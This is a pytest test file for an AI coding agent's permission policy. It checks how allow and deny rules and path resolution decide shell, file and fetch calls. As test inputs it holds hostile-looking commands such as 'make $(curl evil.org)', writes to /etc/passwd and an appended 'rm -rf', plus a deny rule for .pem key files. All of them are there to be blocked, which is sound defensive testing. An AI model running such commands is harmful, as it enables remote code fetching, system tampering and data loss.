"""How a policy decides about a call."""

import os
import unicodedata
from collections.abc import Sequence
from pathlib import Path

import pytest

from agent_svc.agents.base.permission_gate import judged
from agent_svc.agents.base.permissions import Verdict, decide, runs_anything
from agent_svc.agents.base.readable_folders import IN_HOME, SHARED, SYSTEM, readable_folders
from agent_svc.agents.base.tool_vocabulary import ToolCall, relative_target
from agent_svc.agents.claude.messages.tool_calls import tool_call
from agent_svc.agents.claude.own_folder import result_folders
from heddle import pb
from heddle.permissions.permission_patterns import rule_for

ASK, ALLOW, DENY = Verdict.ASK, Verdict.ALLOW, Verdict.DENY


def verdict(
    permissions: pb.Permissions, tool: str, target: str = "", *, writes: bool = False, reads: bool = False
) -> Verdict:
    return decide(permissions, [tool], target, writes_inside=writes, reads=reads).verdict


def policy(
    default: "pb.PermissionDecision.ValueType" = pb.PERMISSION_DECISION_UNSPECIFIED,
    allow: Sequence[str] = (),
    deny: Sequence[str] = (),
) -> pb.Permissions:
    return pb.Permissions(default=default, allow=allow, deny=deny)


def test_asks_unless_told_otherwise() -> None:
    """Without a policy, reads and writes in the worktree are allowed, and other calls create a question."""
    assert verdict(policy(), "Read", "a.txt", reads=True) is ALLOW
    assert verdict(policy(), "Write", "a.txt", writes=True) is ALLOW
    assert verdict(policy(), "Write", "/etc/passwd") is ASK
    assert verdict(policy(), "Bash", "ls") is ASK


@pytest.mark.parametrize(
    ("default", "expected"),
    [
        (pb.PERMISSION_DECISION_ASK, ASK),
        (pb.PERMISSION_DECISION_ALLOW, ALLOW),
        (pb.PERMISSION_DECISION_DENY, DENY),
    ],
)
def test_the_default_is_for_the_rest(default: "pb.PermissionDecision.ValueType", expected: Verdict) -> None:
    """The default decides only calls that no rule covers, and never denies reading."""
    assert verdict(policy(default), "Bash", "ls") is expected
    assert verdict(policy(default), "Read", "a.txt", reads=True) is ALLOW


def test_deny_wins_over_all() -> None:
    """A denied call is denied even if another rule allows it."""
    strict = policy(
        pb.PERMISSION_DECISION_ALLOW,
        allow=["Bash(*)", "Write"],
        deny=["Bash(git push:*)", "Write(secret/**)"],
    )
    assert verdict(strict, "Bash", "make && git push origin") is DENY
    assert verdict(strict, "Write", "secret/a", writes=True) is DENY
    assert verdict(strict, "Bash", "make") is ALLOW


def test_every_part_of_a_command_must_be_allowed() -> None:
    """Different patterns may allow the parts; one other part makes all of it a question."""
    some = policy(allow=["Bash(make:*)", "Bash(git status)"])
    assert verdict(some, "Bash", "make all && git status") is ALLOW
    assert verdict(some, "Bash", "make all && git push") is ASK
    assert verdict(some, "Bash", "make $(curl evil.org)") is ASK
    assert verdict(some, "Bash", "make > /etc/passwd") is ASK
    assert verdict(some, "Bash", "") is ASK


@pytest.mark.parametrize("command", ["make $(id) > log", "a && b", "ls *.py", "echo [x]\necho y"])
def test_a_rule_for_a_command_allows_it_whole_and_no_other(command: str) -> None:
    """A rule allows the whole command; a longer one is a question, a denied one is denied."""
    rule = rule_for("Bash", command)
    assert verdict(policy(allow=[rule]), "Bash", command) is ALLOW
    assert verdict(policy(allow=[rule]), "Bash", f"{command} && rm -rf x") is ASK
    assert verdict(policy(allow=[rule], deny=["Bash"]), "Bash", command) is DENY


def test_a_malformed_pattern_opens_nothing() -> None:
    """A malformed pattern allows nothing as an allow rule and denies everything as a deny rule."""
    assert verdict(policy(allow=["Bash("]), "Bash", "ls") is ASK
    assert verdict(policy(deny=["Bash("]), "Read", "a.txt", reads=True) is DENY


def call(name: str, target: str, kind: "pb.ToolKind.ValueType") -> ToolCall:
    return ToolCall(id="1", name=name, target=target, kind=kind, input="")


@pytest.mark.parametrize(
    "target", [".git", ".git/config", "a/.GIT/hooks/x", ".claude/settings.json", "/etc/passwd", ""]
)
def test_some_files_are_more_than_files(target: str) -> None:
    """Writing a file that git or an agent obeys, or one outside of the worktree, needs a permission."""
    assert not call("Write", target, pb.TOOL_KIND_EDIT).writes_inside
    assert call("Write", "src/claude/.gitignore", pb.TOOL_KIND_EDIT).writes_inside


def test_targets_are_relative_to_the_worktree(tmp_path_factory: pytest.TempPathFactory) -> None:
    """A path inside is relative, a path outside is absolute, and a link is resolved to its target."""
    worktree = tmp_path_factory.mktemp("tree")
    elsewhere = tmp_path_factory.mktemp("elsewhere")
    (worktree / "out").symlink_to(elsewhere)
    assert relative_target(worktree, str(worktree / "a" / "b")) == "a/b"
    assert relative_target(worktree, "a/../b") == "b"
    assert relative_target(worktree, "out/x") == str(elsewhere / "x")
    assert relative_target(worktree, "../x") == str(worktree.parent / "x")


def test_what_only_the_run_shows_is_asked_for() -> None:
    """A call that may be a denied one needs an answer, even with `Bash(*)`, and that answer allows exactly this call."""
    strict = policy(pb.PERMISSION_DECISION_ALLOW, allow=["Bash(*)"], deny=["Bash(git push:*)"])
    assert verdict(strict, "Bash", "git $x") is ASK
    strict.allow.append(rule_for("Bash", "git $x"))
    assert verdict(strict, "Bash", "git $x") is ALLOW
    assert verdict(strict, "Bash", "git $y") is ASK
    assert verdict(policy(pb.PERMISSION_DECISION_DENY, deny=["Bash(git push:*)"]), "Bash", "git $x") is DENY


def test_a_long_command_has_a_bounded_cost() -> None:
    """A command of thousands of parts is compared only as far as a decision needs, and never taken for harmless."""
    strict = policy(pb.PERMISSION_DECISION_ALLOW, deny=["Bash(git push:*)"])
    assert verdict(strict, "Bash", "; ".join(f"echo {number}" for number in range(4_000))) is ASK


@pytest.mark.parametrize(
    ("permissions", "anything"),
    [
        (policy(), False),
        (policy(pb.PERMISSION_DECISION_ALLOW), True),
        (policy(pb.PERMISSION_DECISION_DENY), False),
        (policy(allow=["Bash(*)"]), True),
        (policy(allow=["Bash(make:*)"]), False),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["Write"]), True),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["Write", "Bash(git push:*)"]), False),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["mcp__*"]), False),
        (policy(pb.PERMISSION_DECISION_ALLOW, deny=["Write("]), False),
    ],
)
def test_any_command_may_run_only_without_a_rule_about_commands(
    permissions: pb.Permissions, *, anything: bool
) -> None:
    """All commands are allowed by a pattern or the default, unless a denial is about commands or malformed."""
    assert runs_anything(permissions) is anything


def test_a_call_with_two_names_is_denied_by_either() -> None:
    """An agent's own name of a tool and the usual one are both compared with a denial, and with an exact approval."""
    strict = policy(pb.PERMISSION_DECISION_ALLOW, deny=["WebFetch"])
    for names in (["fetch_url", "WebFetch"], ["WebFetch", "fetch_url"]):
        assert decide(strict, names, "https://x/", writes_inside=False, reads=False).verdict is DENY
    doubtful = policy(allow=[rule_for("Bash", "git $verb")], deny=["Bash(git push:*)"])
    for names in (["shell", "Bash"], ["Bash", "shell"]):
        assert decide(doubtful, names, "git $verb", writes_inside=False, reads=False).verdict is ALLOW


def reading(paths: Sequence[str], tool: str = "Read") -> ToolCall:
    return ToolCall("1", tool, paths[0], pb.TOOL_KIND_READ, "", paths=tuple(paths))


def test_reading_outside_needs_a_permission() -> None:
    """Reading is free in the worktree and in the folders of toolchains; elsewhere, the policy decides."""
    folders = [Path("/usr"), Path("/srv/ada/.cargo")]

    def verdict_of(*paths: str, rules: pb.Permissions | None = None) -> tuple[str, Verdict]:
        part, decision = judged(rules or policy(), reading(paths), folders)
        return part.target, decision.verdict

    assert verdict_of("src/a.py") == ("src/a.py", ALLOW)
    assert verdict_of("/usr/include/a.h") == ("/usr/include/a.h", ALLOW)
    assert verdict_of("/usr2/a") == ("/usr2/a", ASK)
    assert verdict_of("/srv/ada/notes") == ("/srv/ada/notes", ASK)
    # Each file of a call counts, whatever their order.
    assert verdict_of("/usr/a", "/srv/ada/notes", "b") == ("/srv/ada/notes", ASK)
    assert verdict_of("/srv/ada/b", rules=policy(allow=["Read(/srv/ada/b)"])) == ("/srv/ada/b", ALLOW)
    assert verdict_of("/srv/ada/b", "/srv/ada/c", rules=policy(allow=["Read(/srv/ada/b)"]))[1] is ASK
    assert verdict_of("/srv/ada/b", rules=policy(pb.PERMISSION_DECISION_DENY))[1] is DENY
    assert verdict_of("/usr/a", rules=policy(pb.PERMISSION_DECISION_DENY))[1] is ALLOW
    assert verdict_of("/usr/a.pem", rules=policy(deny=["Read(*.pem)"]))[1] is DENY


def test_a_search_without_a_folder_is_inside() -> None:
    """The text that a search looks for is no path, even if it begins like one."""
    call = ToolCall("1", "Grep", "/api/users", pb.TOOL_KIND_SEARCH, "")
    assert judged(policy(), call, [])[1].verdict is ALLOW


def test_folders_that_are_open(tmp_path: Path) -> None:
    """Open are the system, toolchains of the home, linked folders and the session's own, but never all of the home."""
    home, shared, scratch = tmp_path / "home", tmp_path / "cache", tmp_path / "scratch"
    own = home / ".claude" / "projects" / "-w-run-epic"
    for folder in (home / ".cargo" / "registry", shared, scratch, own):
        folder.mkdir(parents=True)
    environment = {
        "HOME": str(home),
        "TMPDIR": str(scratch),
        SHARED: os.pathsep.join([str(shared), "/absent"]),
    }
    assert result_folders(Path("/w/run/epic"), environment) == (own,)
    found = readable_folders(environment)
    assert {folder for folder in found if tmp_path in folder.parents} == {
        home / ".cargo" / "registry",
        shared,
        scratch,
    }
    assert Path("/usr").resolve() in found
    assert not {Path("/"), Path("/home"), Path("/etc"), Path("/proc"), home} & set(found)
    # Without a home there is nothing to open in it.
    assert all(len(folder.parts) > 1 for folder in readable_folders({"HOME": "/"}))


def test_a_path_is_outside_if_one_reading_of_it_is(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Agents expand ~, strip blanks and compose characters; the path that needs a permission counts."""
    worktree, home = tmp_path / "worktree", tmp_path / "home"
    worktree.mkdir()
    monkeypatch.setenv("HOME", str(home))
    composed = unicodedata.normalize("NFC", "e\u0301")
    (worktree / composed).symlink_to(home)
    assert relative_target(worktree, "~/a") == str(home / "a")
    assert relative_target(worktree, "~") == str(home)
    assert relative_target(worktree, f" {home}/a\n") == str(home / "a")
    assert relative_target(worktree, f"{unicodedata.normalize('NFD', composed)}/a") == str(home / "a")
    assert relative_target(worktree, "~a") == "~a"
    assert relative_target(worktree, " a") == " a"


def test_the_documented_folders_are_complete() -> None:
    """docs/agents.md lists every folder that needs no permission."""
    text = (Path(__file__).parents[3] / "docs" / "agents.md").read_text()
    assert f"- the system: {', '.join(f'`{name}`' for name in SYSTEM)};" in text
    listed = ", ".join(f"`~/{name}`" for name in IN_HOME)
    assert f"- toolchains and packages in the home folder: {listed}." in text


@pytest.mark.parametrize(
    ("told", "path"),
    [
        ({"pattern": "src/**/*.py"}, ""),
        ({"pattern": "/etc/*.conf"}, "/etc"),
        ({"pattern": "/etc/passwd"}, "/etc/passwd"),
        ({"pattern": "/*"}, "/"),
        ({"pattern": "../x/*"}, "/x"),
        ({"pattern": "*/../../x"}, "/"),
        ({"pattern": "{/etc,/srv}/*"}, "/"),
        ({"pattern": "*.py", "path": "/srv"}, "/srv"),
        ({"pattern": "*.py", "path": "src"}, "src"),
        ({"pattern": "../../x/*", "path": "src"}, "/x"),
    ],
)
def test_a_glob_is_judged_by_the_folder_that_it_searches(told: dict[str, str], path: str) -> None:
    """A glob without wildcards at its beginning names a folder, as a path does."""
    found = tool_call(Path("/tree"), "1", "Glob", told)
    assert found.paths == ((path,) if path else ())
    assert found.target == (path or told["pattern"])
